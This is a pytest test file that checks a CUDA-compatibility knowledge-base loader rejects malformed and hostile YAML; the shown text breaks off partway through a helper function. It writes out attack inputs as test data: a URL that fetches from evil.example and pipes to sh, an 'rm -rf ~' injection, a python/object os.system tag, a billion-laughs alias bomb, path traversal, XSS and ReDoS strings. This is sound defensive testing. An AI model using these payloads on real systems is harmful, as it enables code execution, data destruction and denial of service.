"""Hostile and malformed knowledge-base files: every one is rejected, precisely, quickly, and
without writing anything.

Most cases are mutations of the small complete fixture ``tests/fixtures/kb.yaml``, made by splicing
its text at the positions of its YAML nodes (so every other line stays as it is and the expected
line is known); the rest are hand-written files (empty, not UTF-8, tabs, deep nesting, an alias
bomb, 10 MB, binary garbage, ...). Each is fed to ``cudacompat check`` in-process. The site build
reports through the same loader: ``tests/site/test_failed_builds.py`` runs a few of these cases
through ``mkdocs build``.
"""

from __future__ import annotations

import functools
import json
import os
import random
import re
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from cudacompat import ROOT, cli, versions
from cudacompat.answers.index import KB
from cudacompat.kb.load import load
from cudacompat.kb.vocab import SECTIONS
from tests.conftest import FIXTURE_KB

REAL = FIXTURE_KB
TEXT = REAL.read_text(encoding="utf-8")
PROBLEM = re.compile(r"^(?P<file>[^:\n]+):(?P<line>\d+):(?P<col>\d+): (?P<row>\S+): (?P<msg>.+)$")
SUMMARY = re.compile(r"^\d+ problem\(s\) in .+$")


# --- the real file as a node tree -------------------------------------------------------------

@functools.cache
def tree() -> yaml.MappingNode:
    # the pure-Python loader: its marks' `index` counts characters, so it indexes TEXT directly
    return yaml.compose(TEXT, Loader=yaml.SafeLoader)


@functools.cache
def real_kb() -> KB:
    return KB(load(REAL))


def node(*path: str | int) -> yaml.Node:
    n = tree()
    for p in path:
        n = n.value[p] if isinstance(p, int) else next(v for k, v in n.value if k.value == p)
    return n


def key_node(*path: str | int) -> yaml.Node:
    return next(k for k, _ in node(*path[:-1]).value if k.value == path[-1])


def _end(n: yaml.Node) -> int:
    """End of a node's text: a block collection's end mark sits at the next token, so back off
    over the whitespace before it."""
    end = n.end_mark.index
    while end > n.start_mark.index and TEXT[end - 1] in " \n":
        end -= 1
    return end


def at(n: yaml.Node) -> tuple[int, int]:
    return n.start_mark.line + 1, n.start_mark.column + 1


def src(n: yaml.Node) -> str:
    return TEXT[n.start_mark.index:_end(n)]


Edit = tuple[int, int, str]  # replace TEXT[start:end] with the string


def apply(*edits: Edit) -> str:
    out = TEXT
    for start, end, new in sorted(edits, reverse=True):
        out = out[:start] + new + out[end:]
    return out


def _starts_after_key(path: tuple) -> int | None:
    """For a block collection written on the lines after its key, the index just after the ':'."""
    n = node(*path)
    if not isinstance(path[-1], str):
        return None
    k = key_node(*path)
    if n.start_mark.line == k.start_mark.line:
        return None
    return TEXT.index(":", k.end_mark.index) + 1


def set_value(path: tuple, new: str) -> Edit:
    """Replace the value at ``path`` with the YAML text ``new`` (written after the key)."""
    n = node(*path)
    colon = _starts_after_key(path)
    if colon is not None:
        return colon, _end(n), " " + new
    return n.start_mark.index, _end(n), new


def new_at(*path: str | int) -> tuple[int, int]:
    """Where a value written by :func:`set_value` starts (line, column), 1-based."""
    colon = _starts_after_key(path)
    if colon is None:
        return at(node(*path))
    k = key_node(*path)
    return k.start_mark.line + 1, k.start_mark.column + 1 + (colon - k.start_mark.index) + 1


def drop_key(path: tuple) -> Edit:
    return key_node(*path).start_mark.index, _end(node(*path)), ""


def add_key(row: tuple, line: str) -> Edit:
    """Insert ``line`` (``key: value``) as the first key of a block mapping."""
    n = node(*row)
    assert not n.flow_style, row
    i = n.start_mark.index
    return i, i, line + "\n" + " " * n.start_mark.column


def row_id(section: str, i: int) -> str:
    rid = dict((k.value, v) for k, v in node(section, i).value).get("id")
    return rid.value if isinstance(rid, yaml.ScalarNode) else f"{section}[{i}]"


def middle(section: str, has: str | None = None) -> int:
    """A row from the middle of a section (one that has key ``has``)."""
    rows = node(section).value
    for i in list(range(len(rows) // 2, len(rows))) + list(range(len(rows) // 2)):
        if has is None or any(k.value == has for k, _ in rows[i].value):
            return i
    raise LookupError(f"no {section} row has {has!r}")


# --- cases ------------------------------------------------------------------------------------

@dataclass
class Expect:
    message: str  # a substring of the problem's message
    line: int | None = None
    col: int | None = None
    row: str | None = None  # the row id column; "-" for whole-file problems


@dataclass
class Case:
    id: str
    kind: str  # cases of one kind exercise one check; the build runs one case per kind
    make: Callable[[], tuple[str | bytes, Expect]]

    def __repr__(self) -> str:
        return self.id


CASES: list[Case] = []


def case(id: str, kind: str | None = None):
    def deco(fn):
        CASES.append(Case(id, kind or id, fn))
        return fn
    return deco


def per_section(kind: str):
    """Register ``fn(section)`` once per section of the knowledge base."""
    def deco(fn):
        for s in SECTIONS:
            CASES.append(Case(f"{s}-{kind}", kind, functools.partial(fn, s)))
        return fn
    return deco


@per_section("drop-sources")
def _(s):
    i = middle(s)
    return apply(drop_key((s, i, "sources"))), Expect("missing required key 'sources'", *new_at(s, i), row_id(s, i))


@per_section("sources-is-a-string")
def _(s):
    i = middle(s)
    return (apply(set_value((s, i, "sources"), '"https://example.invalid/one-source"')),
            Expect("sources: Input should be a valid list", *new_at(s, i, "sources"), row_id(s, i)))


@per_section("sources-empty")
def _(s):
    i = middle(s)
    return (apply(set_value((s, i, "sources"), "[]")),
            Expect("sources: List should have at least 1 item", *new_at(s, i, "sources"), row_id(s, i)))


@per_section("source-not-primary")
def _(s):
    i = middle(s)
    return (apply(set_value((s, i, "sources"), '["from memory", "http://plain.example/"]')),
            Expect("a source must be an https:// URL", new_at(s, i, "sources")[0], None, row_id(s, i)))


@per_section("unknown-key")
def _(s):
    i = middle(s)
    return (apply(add_key((s, i), "colour: red")),
            Expect("unknown key 'colour'; expected one of:", *new_at(s, i), row_id(s, i)))


@per_section("duplicate-id")
def _(s):
    i = middle(s)
    first = row_id(s, i)
    n = node(s, i + 1, "id")
    return (apply(set_value((s, i + 1, "id"), src(node(s, i, "id")))),
            Expect(f"duplicate id '{first}' (first at line {at(node(s, i))[0]})", *at(n), first))


@per_section("duplicate-mapping-key")
def _(s):
    i = middle(s)
    k = key_node(s, i, "id")
    # the inserted copy comes first, so the row's own `id:` (one line down) is the duplicate
    return (apply(add_key((s, i), "id: " + src(node(s, i, "id")))),
            Expect(f"duplicate key 'id' (first at line {k.start_mark.line + 1})",
                   k.start_mark.line + 2, k.start_mark.column + 1, row_id(s, i)))


WRONG_TYPE = {  # section: (key, replacement, message)
    "architectures": ("compute_capabilities", '"8.6"', "compute_capabilities: Input should be a valid list"),
    "gpus": ("compute_capability", "8.6", "compute_capability: 8.6 was read as a number"),
    "cuda": ("version", "12.10", "version: 12.1 was read as a number"),
    "cuda_majors": ("major", '"twelve"', "major: Input should be a valid integer"),
    "cudnn": ("version", "9.1", "version: 9.1 was read as a number"),
    "nccl": ("version", "2.21", "version: 2.21 was read as a number"),
    "torch": ("version", "2.7", "version: 2.7 was read as a number"),
    "images": ("torch", "2.7", "torch: 2.7 was read as a number"),
    "ngc": ("release", "24.10", "release: 24.1 was read as a number"),
    "errors": ("messages", '"just one message"', "messages: Input should be a valid list"),
    "announcements": ("torch", "2.15", "torch: 2.15 was read as a number"),
    "driver_support": ("gpus", '"card-b"', "gpus: Input should be a valid list"),
    "jetpack": ("cuda", "12.2", "cuda: 12.2 was read as a number"),
    "jetson_builds": ("jetpack", '"6.0"', "jetpack: Input should be a valid list"),
    "companions": ("torch", "9.1", "torch: 9.1 was read as a number"),
    "triton": ("version", "9.1", "version: 9.1 was read as a number"),
    "extensions": ("binary", '"yes"', "binary: Input should be a valid boolean"),
}


@per_section("wrong-type")
def _(s):
    key, new, msg = WRONG_TYPE[s]
    i = middle(s, key)
    return apply(set_value((s, i, key), new)), Expect(msg, *new_at(s, i, key), row_id(s, i))


# invariants across rows, and values of the right type that are still wrong

@case("gpu-dangling-architecture")
def _():
    i = middle("gpus")
    return (apply(set_value(("gpus", i, "architecture"), "nonexistent")),
            Expect("unknown architecture 'nonexistent'", *new_at("gpus", i, "architecture"), row_id("gpus", i)))


@case("gpu-cc-not-of-its-architecture")
def _():
    i = middle("gpus")
    arch = real_kb().arch[real_kb().data.gpus[i].architecture]
    other = next(a.compute_capabilities[0] for a in real_kb().data.architectures if a.id != arch.id)
    return (apply(set_value(("gpus", i, "compute_capability"), f'"{other}"')),
            Expect(f"compute capability {other} is not one of {arch.id}'s",
                   *new_at("gpus", i, "compute_capability"), row_id("gpus", i)))


@case("gpu-cc-unparsable")
def _():
    i = middle("gpus")
    return (apply(set_value(("gpus", i, "compute_capability"), '"sm_86"')),
            Expect("write compute capabilities as \"8.6\", not sm_86", *new_at("gpus", i, "compute_capability"),
                   row_id("gpus", i)))


@case("gpu-segment-not-allowed")
def _():
    i = middle("gpus")
    return (apply(set_value(("gpus", i, "segment"), "gaming")),
            Expect("segment: Input should be", *new_at("gpus", i, "segment"), row_id("gpus", i)))


@case("gpu-duplicate-name")
def _():
    i = middle("gpus")
    n = node("gpus", i + 1, "name")
    return (apply(set_value(("gpus", i + 1, "name"), src(node("gpus", i, "name")))),
            Expect("already used by", *at(n), row_id("gpus", i + 1)))


@case("architecture-cc-listed-twice")
def _():
    kb = real_kb()
    cc = kb.data.architectures[0].compute_capabilities[0]
    n = node("architectures", 1, "compute_capabilities")
    return (apply(set_value(("architectures", 1, "compute_capabilities"), f'["{cc}"]')),
            Expect(f"compute capability {cc} is already listed under", at(n)[0], at(n)[1] + 1,
                   row_id("architectures", 1)))


def _torch_variant(pred: Callable) -> tuple[int, int]:
    for i, t in enumerate(real_kb().data.torch):
        for j, v in enumerate(t.variants):
            if pred(t, v):
                return i, j
    raise LookupError("no such variant")


@case("variant-dangling-cuda")
def _():
    i, j = _torch_variant(lambda t, v: v.cuda is not None)
    assert "10.0" not in real_kb().toolkits
    vp = ("torch", i, "variants", j)
    return (apply(set_value(vp + ("cuda",), '"10.0"'), set_value(vp + ("variant",), '"cu100"')),
            Expect("unknown CUDA toolkit 10.0; add a cuda row for it", *new_at(*vp, "cuda"),
                   f"{row_id('torch', i)}+cu100"))


@case("variant-cuda-does-not-match-name")
def _():
    i, j = _torch_variant(lambda t, v: v.cuda is not None)
    vp = ("torch", i, "variants", j)
    v = real_kb().data.torch[i].variants[j]
    other = next(c for c in real_kb().toolkits if c != v.cuda)
    return (apply(set_value(vp + ("cuda",), f'"{other}"')),
            Expect(f"CUDA {other} does not match variant {v.variant}", *new_at(*vp, "cuda"),
                   f"{row_id('torch', i)}+{v.variant}"))


@case("variant-cuda-is-a-patch-version")
def _():
    i, j = _torch_variant(lambda t, v: v.cuda is not None)
    vp = ("torch", i, "variants", j)
    v = real_kb().data.torch[i].variants[j]
    return (apply(set_value(vp + ("cuda",), f'"{v.cuda}.1"')),
            Expect(f"write the toolkit as X.Y ({v.cuda})", *new_at(*vp, "cuda"), f"{row_id('torch', i)}+{v.variant}"))


@case("variant-sm-outside-toolkit-range")
def _():
    kb = real_kb()

    def newest_with_range(t, v):
        tk = kb.toolkits.get(v.cuda or "")
        return bool(tk and tk.arch_range and versions.cc(tk.arch_range.min) > versions.cc("3.0")
                    and "linux-x86_64" in v.platforms and v.platforms["linux-x86_64"].sm)
    i, j = _torch_variant(newest_with_range)
    v = kb.data.torch[i].variants[j]
    tk = kb.toolkits[v.cuda]
    sm = v.platforms["linux-x86_64"].sm
    path = ("torch", i, "variants", j, "platforms", "linux-x86_64", "sm")
    n = node(*path)
    new = "[" + ", ".join(f'"{c}"' for c in [*sm, "3.0"]) + "]"
    return (apply(set_value(path, new)),
            Expect(f"sm_30 is outside what CUDA {tk.version} can compile for", n.start_mark.line + 1, None,
                   f"{row_id('torch', i)}+{v.variant}"))


@case("variant-two-defaults")
def _():
    i, j = _torch_variant(lambda t, v: v.default and len(t.variants) > 1)
    other = 1 if j == 0 else 0
    vp = ("torch", i, "variants", other)
    return (apply(add_key(vp, "default: true")),
            Expect("default variants; at most one", None, None, row_id("torch", i)))


@case("variant-name-not-a-build")
def _():
    i, j = _torch_variant(lambda t, v: True)
    vp = ("torch", i, "variants", j, "variant")
    return (apply(set_value(vp, '"cuda-latest"')),
            Expect("variant: String should match pattern", *new_at(*vp), None))


@case("torch-version-unparsable", "version-unparsable")
def _():
    i = middle("torch")
    return (apply(set_value(("torch", i, "version"), '"two.seven"')),
            Expect("'two.seven' is not a version", *new_at("torch", i, "version"), row_id("torch", i)))


@case("torch-version-with-line-break", "version-unparsable")
def _():
    i = middle("torch")
    v = real_kb().data.torch[i].version
    return (apply(set_value(("torch", i, "version"), f'"{v}\\n"')),
            Expect("has spaces or line breaks around it", *new_at("torch", i, "version"), row_id("torch", i)))


@case("torch-listed-twice")
def _():
    i = middle("torch")
    v = real_kb().data.torch[i].version
    n = node("torch", i + 1, "version")
    return (apply(set_value(("torch", i + 1, "version"), f'"{v}"')),
            Expect(f"torch {v} is listed twice", *at(n), row_id("torch", i + 1)))


@case("torch-date-not-iso", "date")
def _():
    i = middle("torch", "date")
    return (apply(set_value(("torch", i, "date"), '"2024/01/31"')),
            Expect("date: String should match pattern", *new_at("torch", i, "date"), row_id("torch", i)))


@case("torch-python-range-reversed")
def _():
    i = middle("torch", "python")
    return (apply(set_value(("torch", i, "python"), '{min: "3.13", max: "3.9"}')),
            Expect("Python range min 3.13 is above max 3.9", *new_at("torch", i, "python"), row_id("torch", i)))


def _cuda_with_releases(n: int) -> int:
    for i, c in enumerate(real_kb().data.cuda):
        if len(c.releases) >= n and all(r.min_driver.linux for r in c.releases):
            return i
    raise LookupError


@case("cuda-driver-minimum-decreasing", "driver-decreasing")
def _():
    i = _cuda_with_releases(2)
    c = real_kb().data.cuda[i]
    path = ("cuda", i, "releases", len(c.releases) - 1, "min_driver", "linux")
    return (apply(set_value(path, '"300.10"')),
            Expect("linux driver minimum 300.10", *new_at(*path), row_id("cuda", i)))


@case("cuda-driver-unparsable")
def _():
    i = _cuda_with_releases(1)
    path = ("cuda", i, "releases", 0, "min_driver", "linux")
    return (apply(set_value(path, '"five-seventy"')),
            Expect("'five-seventy' is not a driver version", *new_at(*path), row_id("cuda", i)))


@case("cuda-release-of-another-toolkit")
def _():
    i = _cuda_with_releases(1)
    path = ("cuda", i, "releases", 0, "version")
    return (apply(set_value(path, '"99.1.0"')),
            Expect("release 99.1.0 does not belong to toolkit", *new_at(*path), row_id("cuda", i)))


@case("cuda-arch-range-reversed")
def _():
    i = middle("cuda", "arch_range")
    return (apply(set_value(("cuda", i, "arch_range"), '{min: "9.0", max: "5.0"}')),
            Expect("arch_range min 9.0 is above max 5.0", *new_at("cuda", i, "arch_range"), row_id("cuda", i)))


@case("cuda-without-its-major")
def _():
    i = middle("cuda")
    v = real_kb().data.cuda[i].version
    rel = versions.parse(v).release
    new = f"{rel[0] + 80}.{rel[1]}"
    # its releases must still belong to it, so rewrite them too
    edits = [set_value(("cuda", i, "version"), f'"{new}"')]
    edits += [set_value(("cuda", i, "releases", j, "version"), f'"{new}.{k}"')
              for j, k in enumerate(range(len(real_kb().data.cuda[i].releases)))]
    return apply(*edits), Expect(f"no cuda_majors row for CUDA {rel[0] + 80}", *new_at("cuda", i, "version"),
                                 row_id("cuda", i))


@case("image-dangling-torch", "dangling-image")
def _():
    i = middle("images")
    return (apply(set_value(("images", i, "torch"), '"9.9.9"')),
            Expect("unknown torch release 9.9.9", *new_at("images", i, "torch"), row_id("images", i)))


@case("image-dangling-variant", "dangling-image")
def _():
    i = middle("images")
    im = real_kb().data.images[i]
    return (apply(set_value(("images", i, "variant"), '"cu999"')),
            Expect(f"no torch {im.torch} cu999 build", *new_at("images", i, "variant"), row_id("images", i)))


@case("error-pattern-not-a-regex")
def _():
    i = middle("errors")
    return (apply(set_value(("errors", i, "pattern"), '"(unclosed"')),
            Expect("pattern refused: unbalanced ( at character 1", *new_at("errors", i, "pattern"), row_id("errors", i)))


for _n, (_pattern, _why) in enumerate([("^(a+)+$", "nested quantifiers"), ("(\\\\w|\\\\d)+", "catastrophic backtracking"),
                                       ("(?i)cuda", "inline flags"), ("(?<=x)y", "lookbehind"),
                                       ("x" * 400, "the limit is 300"), ("(" * 40 + ")" * 40, "groups nest deeper")]):
    @case(f"error-pattern-hostile-{_n}", "hostile-regex")
    def _(pattern=_pattern, why=_why):
        i = middle("errors")
        return (apply(set_value(("errors", i, "pattern"), json.dumps(pattern))),
                Expect(why, *new_at("errors", i, "pattern"), row_id("errors", i)))


@case("error-message-not-matched")
def _():
    i = middle("errors")
    path = ("errors", i, "messages", 0)
    return (apply(set_value(path, '"zzz nothing like the pattern zzz"')),
            Expect("message is not matched by the entry's own pattern", *new_at(*path), row_id("errors", i)))


@case("evidence-file-missing")
def _():
    i = middle("gpus")
    return (apply(set_value(("gpus", i, "sources"), '["evidence:data/evidence/wheels/nope.json"]')),
            Expect("evidence file data/evidence/wheels/nope.json does not exist", new_at("gpus", i, "sources")[0],
                   None, row_id("gpus", i)))


@case("id-with-path-traversal", "hostile-id")
def _():
    # ids become page paths (architectures/<id>/): "/" would let a row write outside the site
    path = ("architectures", 0, "id")
    return (apply(set_value(path, '"k/../../../../outside"')),
            Expect("id: String should match pattern", *new_at(*path), None))


@case("id-with-url-scheme", "hostile-id")
def _():
    path = ("architectures", 0, "id")
    return (apply(set_value(path, '"javascript:alert"')),
            Expect("id: String should match pattern", *new_at(*path), None))


@case("cuda-majors-not-a-list", "section-not-a-list")
def _():
    # used to crash the invariants with "TypeError: 'int' object is not iterable"
    return (apply(set_value(("cuda_majors",), "5")),
            Expect("cuda_majors must be a list of rows", *new_at("cuda_majors"), "-"))


@case("section-is-a-mapping", "section-not-a-list")
def _():
    return (apply(set_value(("nccl",), "{a: 1}")), Expect("nccl must be a list of rows", *new_at("nccl"), "-"))


@case("cuda-major-is-a-list")
def _():
    # used to crash the invariants with "TypeError: unhashable type: 'list'"
    i = 0
    return (apply(set_value(("cuda_majors", i, "major"), "[12]")),
            Expect("major: Input should be a valid integer", *new_at("cuda_majors", i, "major"),
                   row_id("cuda_majors", i)))


@case("explicit-tag-bad-int", "explicit-tag")
def _():
    # `!!int abc` used to escape the loader as a ValueError traceback
    path = ("cuda_majors", 0, "major")
    return apply(set_value(path, "!!int twelve")), Expect("explicit tags (!!int) are not allowed", *new_at(*path))


@case("explicit-tag-bad-bool", "explicit-tag")
def _():
    i, j = _torch_variant(lambda t, v: v.default)
    path = ("torch", i, "variants", j, "default")
    return apply(set_value(path, "!!bool maybe")), Expect("explicit tags (!!bool) are not allowed", *new_at(*path))


@case("explicit-tag-empty-int", "explicit-tag")
def _():
    # `!!int` with no value raised IndexError inside PyYAML's constructor
    path = ("cuda_majors", 0, "major")
    return apply(set_value(path, "!!int")), Expect("explicit tags (!!int) are not allowed", *new_at(*path))


@case("python-object-tag", "explicit-tag")
def _():
    path = ("gpus", 0, "name")
    # never constructed: refused as a tag
    return (apply(set_value(path, '!!python/object/apply:os.system ["touch pwned"]')),
            Expect("explicit tags (!!python/object/apply:os.system) are not allowed", *new_at(*path), row_id("gpus", 0)))


@case("unknown-section")
def _():
    return TEXT + "\ncolours:\n  - red\n", Expect("unknown section 'colours'", TEXT.count("\n") + 2, 1, "-")


@case("duplicate-section")
def _():
    return TEXT + "\ngpus: []\n", Expect("duplicate key 'gpus'", TEXT.count("\n") + 2, 1, "-")


@case("merge-key")
def _():
    i = middle("gpus")
    return apply(add_key(("gpus", i), "<<: {segment: consumer}")), Expect("merge keys (<<) are not allowed",
                                                                          *new_at("gpus", i), row_id("gpus", i))


@case("alias-between-rows", "alias")
def _():
    a, b = node("gpus", 0, "sources"), node("gpus", 1, "sources")
    return (apply((a.start_mark.index, a.start_mark.index, "&src "), set_value(("gpus", 1, "sources"), "*src")),
            Expect("YAML aliases (*name) are not allowed", *at(b), row_id("gpus", 1)))


@case("yaml-syntax-unclosed-flow", "yaml-syntax")
def _():
    n = node("gpus", 0, "sources")
    assert n.flow_style
    text = src(n)
    return apply(set_value(("gpus", 0, "sources"), text[:-1])), Expect("YAML syntax:", None, None, "-")


@case("yaml-syntax-bad-indent", "yaml-syntax")
def _():
    k = key_node("gpus", middle("gpus"), "segment")
    i = k.start_mark.index
    return TEXT[:i] + "  " + TEXT[i:], Expect("YAML syntax:", None, None, "-")


@case("nul-byte-in-a-value", "control-character")
def _():
    n = node("gpus", 0, "name")
    i = n.start_mark.index + 2
    return TEXT[:i] + "\x00" + TEXT[i:], Expect("control characters are not allowed (U+0000)",
                                                n.start_mark.line + 1, n.start_mark.column + 3, "-")


@case("two-documents", "yaml-syntax")
def _():
    return TEXT + "\n---\n" + TEXT, Expect("YAML syntax: but found another document", TEXT.count("\n") + 2, 1, "-")


# hand-written files

@case("empty-file", "empty")
def _():
    return b"", Expect("the file is empty", 1, 1, "-")


@case("only-comments", "empty")
def _():
    return "# nothing here\n\n   \n# still nothing\n", Expect("the file is empty", 1, 1, "-")


@case("not-utf8-latin1", "encoding")
def _():
    n = node("gpus", 0, "name")
    raw = TEXT.encode("utf-8")
    i = len(TEXT[:n.start_mark.index].encode("utf-8")) + 1
    return raw[:i] + "é".encode("latin-1") + raw[i:], Expect("not UTF-8 text", n.start_mark.line + 1,
                                                              n.start_mark.column + 2, "-")


@case("not-utf8-utf16", "encoding")
def _():
    return TEXT.encode("utf-16"), Expect("not UTF-8 text", 1, 1, "-")


@case("tab-indentation", "tabs")
def _():
    k = key_node("gpus", 0, "segment")
    i = k.start_mark.index
    text = TEXT[: i - 2] + "\t" + TEXT[i:]  # "    segment:" -> "  \tsegment:"
    return text, Expect("tab character; indent YAML with spaces", k.start_mark.line + 1, k.start_mark.column - 1, "-")


@case("deep-nesting-flow", "deep-nesting")
def _():
    # the C composer recursed once per level and crashed the interpreter (SIGSEGV) on this
    return "gpus: " + "[" * 200_000 + "\n", Expect("nested deeper than", 1, None, "-")


@case("deep-nesting-block", "deep-nesting")
def _():
    return "".join("  " * d + f"k{d}:\n" for d in range(500)) + "  " * 500 + "x\n", Expect("nested deeper than", None, None, "-")


@case("deep-nesting-in-a-real-row", "deep-nesting")
def _():
    path = ("gpus", 0, "aliases")
    return apply(set_value(path, "[" * 30 + "]" * 30)), Expect("nested deeper than", new_at(*path)[0], None, "-")


# --- hostile values: what reaches a shell, a terminal, a table or a link -------------------------

INJECTIONS = ["https://download.pytorch.org/whl/cu116;curl${IFS}-s${IFS}https://evil.example/x|sh;#",
              "https://download.pytorch.org/whl/cu116 && rm -rf ~", "https://download.pytorch.org/whl/cu116`id`",
              "https://evil.example/whl/cu116", "http://download.pytorch.org/whl/cu116",
              "https://download.pytorch.org.evil.example/whl/cu116", "https://download.pytorch.org/whl/cu116/../x",
              "https://download.pytorch.org/whl/cu116%0a", "https://download.pytorch.org/whl/$(id)"]


for _n, _url in enumerate(INJECTIONS):
    @case(f"index-injection-{_n}", "command-injection")
    def _(url=_url):
        i, j = _torch_variant(lambda t, v: v.index != "pypi")
        path = ("torch", i, "variants", j, "index")
        v = real_kb().data.torch[i].variants[j]
        return (apply(set_value(path, yaml.dump(url, default_style='"').strip())),
                Expect("index: must be pypi or one of PyTorch's indexes", *new_at(*path),
                       f"{row_id('torch', i)}+{v.variant}"))


@case("jetson-wheel-injection", "command-injection")
def _():
    i = next(i for i, b in enumerate(real_kb().data.jetson_builds) if b.wheel)
    path = ("jetson_builds", i, "wheel")
    bad = "https://developer.download.nvidia.com/compute/redist/jp/v51/pytorch/torch-1.whl;sh"
    return apply(set_value(path, f'"{bad}"')), Expect("must be NVIDIA's Jetson wheel address", *new_at(*path),
                                                      row_id("jetson_builds", i))


@case("jetson-container-injection", "command-injection")
def _():
    i = next(i for i, b in enumerate(real_kb().data.jetson_builds) if b.container)
    path = ("jetson_builds", i, "container")
    return (apply(set_value(path, '"nvcr.io/nvidia/pytorch:31.01 --privileged -v /:/host"')),
            Expect("must be an NGC container", *new_at(*path), row_id("jetson_builds", i)))


@case("image-id-not-its-tag", "command-injection")
def _():
    path = ("images", 0, "id")
    return (apply(set_value(path, '"pytorch/pytorch:latest"')),
            Expect("the id must be pytorch/pytorch:", *new_at(*path), "pytorch/pytorch:latest"))


@case("image-id-other-repository", "command-injection")
def _():
    path = ("images", 0, "id")
    return apply(set_value(path, '"evil/pytorch:9.1.0-cuda12.1-cudnn9-runtime"')), Expect(
        "must be pytorch/pytorch:<tag>", *new_at(*path), None)


@pytest.mark.parametrize("src", ['https://example.invalid/a"onmouseover="x', "https://example.invalid/<script>",
                                 "https://user@evil.example/x", "javascript:alert(1)", "https:/x",
                                 "owner/repo:../../etc/passwd", "evidence:data/evidence/../../../etc/passwd.json",
                                 "https://exa mple.invalid/"])
def test_hostile_sources_are_refused(src, workdir: Path, capsys):
    i = middle("gpus")
    path = ("gpus", i, "sources", 0)
    f = workdir / "data" / "hostile-source.yaml"
    f.write_text(apply(set_value(path, json.dumps(src))), encoding="utf-8")
    assert cli.main(["check", str(f)]) == 2
    assert_reported(capsys.readouterr().err, Expect("a source must be", *new_at(*path), row_id("gpus", i)), src)


for _n, (_text, _msg) in enumerate([("\\e[31mred\\e[0m", "control character U+001B"),
                                    ("two\\rlines", "control character U+000D"),
                                    ("bidi \\u202Eoverride", "control character U+202E"),
                                    ("bell\\a", "control character U+0007")]):
    @case(f"control-character-in-a-name-{_n}", "control-character")
    def _(text=_text, msg=_msg):
        i = middle("gpus")
        path = ("gpus", i, "name")
        return apply(set_value(path, f'"{text}"')), Expect(msg, *new_at(*path), row_id("gpus", i))


for _n, (_value, _msg) in enumerate([("no", "as a boolean"), ("Off", "as a boolean"), ("12:30", "sexagesimal"),
                                     ("012", "octal"), ("0x1F", "hex"), (".nan", "special or exponent"),
                                     ("1" * 5000 + ":1", "sexagesimal"), ("9" * 30, "a number it is not")]):
    @case(f"yaml11-trap-{_n}", "yaml11-trap")
    def _(value=_value, msg=_msg):
        i = middle("gpus")
        path = ("gpus", i, "name")
        return apply(set_value(path, value)), Expect(msg, *new_at(*path), row_id("gpus", i))


@case("tag-on-a-sequence", "explicit-tag")
def _():
    i = middle("gpus")
    path = ("gpus", i, "aliases")
    return (apply(set_value(path, '!!python/tuple ["x"]')),
            Expect("explicit tags (!!python/tuple) are not allowed", *new_at(*path), row_id("gpus", i)))


@case("tag-set-on-a-mapping", "explicit-tag")
def _():
    i = middle("gpus")
    path = ("gpus", i, "aliases")
    return (apply(set_value(path, "!!set {a: null}")),
            Expect("explicit tags (!!set) are not allowed", *new_at(*path), row_id("gpus", i)))


BILLION_LAUGHS = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
gpus: [*i,*i,*i,*i,*i,*i,*i,*i,*i]
"""


@case("billion-laughs", "alias-bomb")
def _():
    return BILLION_LAUGHS, Expect("YAML aliases (*name) are not allowed", 2, 8, "b[0]")


@case("billion-laughs-in-real-data", "alias-bomb")
def _():
    bomb = "".join(f"  x{k}: &l{k} [" + ",".join([f"*l{k - 1}" if k else '"lol"'] * 10) + "]\n" for k in range(12))
    return TEXT + "\nlaughs:\n" + bomb, Expect("YAML aliases (*name) are not allowed", TEXT.count("\n") + 4, 12, "laughs[x1]")


@case("ten-megabytes", "too-big")
def _():
    pad = "# " + "x" * 98 + "\n"
    return TEXT + pad * (10 * 1024 * 1024 // len(pad)), Expect("bytes; the limit is 8,388,608", 1, 1, "-")


@case("top-level-list", "not-a-mapping")
def _():
    return "- gpus\n- torch\n", Expect("expected a mapping with the keys architectures, gpus", 1, 1, "-")


@case("top-level-scalar", "not-a-mapping")
def _():
    return "just some words\n", Expect("expected a mapping with the keys", 1, 1, "-")


@case("top-level-null", "not-a-mapping")
def _():
    return "null\n", Expect("expected a mapping with the keys", 1, 1, "-")


@case("real-rows-as-a-list", "not-a-mapping")
def _():
    return "-\n" + "".join("  " + line for line in TEXT.splitlines(True)), Expect(
        "expected a mapping with the keys", 1, 1, "-")


@case("binary-garbage", "binary")
def _():
    return random.Random(11).randbytes(256 * 1024), Expect("not UTF-8 text", None, None, "-")


@case("control-characters", "binary")
def _():
    ctl = bytes(c for c in range(32) if c not in (9, 10, 13)) * 200
    return ctl, Expect("control characters are not allowed", 1, None, "-")


@case("a-directory", "unreadable")
def _():
    return Path("."), Expect("not a regular file", 1, 1, "-")


CHECK_CASES = sorted(CASES, key=lambda c: c.id)
assert len(CHECK_CASES) >= 60 and len({c.id for c in CASES}) == len(CASES)


# --- running them -----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def workdir(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("malformed")
    (base / "data").mkdir()
    return base


def materialise(c: Case, base: Path) -> tuple[Path, Expect]:
    content, expect = c.make()
    if isinstance(content, Path):  # a path to hand over as it is (a directory)
        target = base / "data" / c.id
        target.mkdir(exist_ok=True)
        return target, expect
    target = base / "data" / f"{c.id}.yaml"
    target.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return target, expect


def snapshot(d: Path, content: bool = True) -> dict[str, tuple]:
    """Every path under ``d`` with its size and mtime (and its bytes, for small trees)."""
    return {p.relative_to(d).as_posix(): (p.is_dir(), p.stat().st_size, p.stat().st_mtime_ns,
                                          p.read_bytes() if content and p.is_file() else None)
            for p in sorted(d.rglob("*"))}


def assert_reported(output: str, expect: Expect, where: str) -> list[re.Match]:
    found = [m for m in map(PROBLEM.match, output.splitlines()) if m]
    assert found, f"no file:line:col: row: message line in {where}:\n{output[-3000:]}"
    hits = [m for m in found
            if expect.message in m["msg"]
            and (expect.line is None or int(m["line"]) == expect.line)
            and (expect.col is None or int(m["col"]) == expect.col)
